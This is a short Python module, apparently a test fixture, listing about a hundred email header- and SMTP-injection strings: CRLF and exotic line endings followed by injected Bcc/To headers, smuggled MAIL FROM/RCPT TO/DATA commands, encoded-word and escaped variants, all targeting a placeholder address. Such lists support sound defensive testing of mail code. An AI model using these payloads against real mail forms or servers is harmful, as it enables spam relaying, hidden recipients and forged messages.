"""A hundred texts that try to become a header, a recipient or a message of their own."""

EVIL = "evil@example.org"

_ENDINGS = (
    *("\r\n", "\n", "\r", "\r\n\r\n", "\n\r", "\r\n ", "\r\n\t", "\n "),
    *("\0", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"),
)
"""What some program takes for a line's end."""
_HEADERS = (
    f"Bcc: {EVIL}",
    f"To: {EVIL}",
    "Subject: another",
    "Content-Type: text/html",
)
_COMMANDS = f"MAIL FROM:<{EVIL}>\r\nRCPT TO:<{EVIL}>\r\nDATA\r\nSubject: a second one\r\n\r\n.\r\n"
ENCODED_WORDS = (
    f"=?utf-8?q?=0D=0ABcc:_{EVIL}?=",
    "=?utf-8?b?DQpCY2M6IGV2aWxAZXhhbXBsZS5vcmc=?=",
    f"=?utf-8?q?=0D=0A?=Bcc: {EVIL}",
    f"=?utf-8?q?=0ABcc=3A_{EVIL.replace('@', '=40')}?=",
    "=?utf-8?q?=E2=80=A8Bcc:_x?=",
    "=?no-such-charset?q?=0D=0ABcc:_x?=",
    "=?utf-8?q?unfinished",
    "=?utf-7?q?+AA0ACg-Bcc:_x?=",
)
"""What programs that read mail take for other texts, encoded."""
_OTHERS = (
    "\r\n.\r\n",
    "\n.\n",
    "\r.\r",
    f"\r\n.\r\n{_COMMANDS}",
    f"\n.\n{_COMMANDS}",
    f"\n.\r\n{_COMMANDS}",
    f"\r\n.\n{_COMMANDS}",
    f"\r\n{_COMMANDS}",
    f">\r\nRCPT TO:<{EVIL}",
    f">\nRCPT TO:<{EVIL}",
    f"%0d%0aBcc:%20{EVIL}",
    f"\\r\\nBcc: {EVIL}",
    f"&#13;&#10;Bcc: {EVIL}",
    f", {EVIL}",
    f"; {EVIL}",
    f"> , <{EVIL}",
    f'" <{EVIL}>, "',
    f"({EVIL})",
    f"group: {EVIL};",
    f" {EVIL}",
    "\u202emoc.elpmaxe@live",
    "\u00e9" * 500 + f"\r\nBcc: {EVIL}",
    "long " * 500 + f"\r\nBcc: {EVIL}",
    "x" * 2_000,
)
INJECTIONS = (
    *(ending + header for ending in _ENDINGS for header in _HEADERS),
    *ENCODED_WORDS,
    *_OTHERS,
)
